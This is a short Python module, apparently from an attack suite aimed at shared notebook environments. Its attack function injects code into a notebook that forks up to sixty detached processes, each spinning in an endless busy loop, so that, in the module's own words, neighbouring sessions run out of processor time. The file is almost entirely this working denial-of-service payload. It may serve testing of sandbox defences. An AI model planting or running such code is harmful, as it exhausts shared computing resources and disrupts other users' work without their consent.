"""Keeps every processor busy with as many sessions as it may have processes, so that its neighbours run out of time."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os, time
for _ in range(60):
    try: child = os.fork()
    except OSError: break
    if not child:
        os.setsid()
        while True: pass
time.sleep(60)
""",
    )
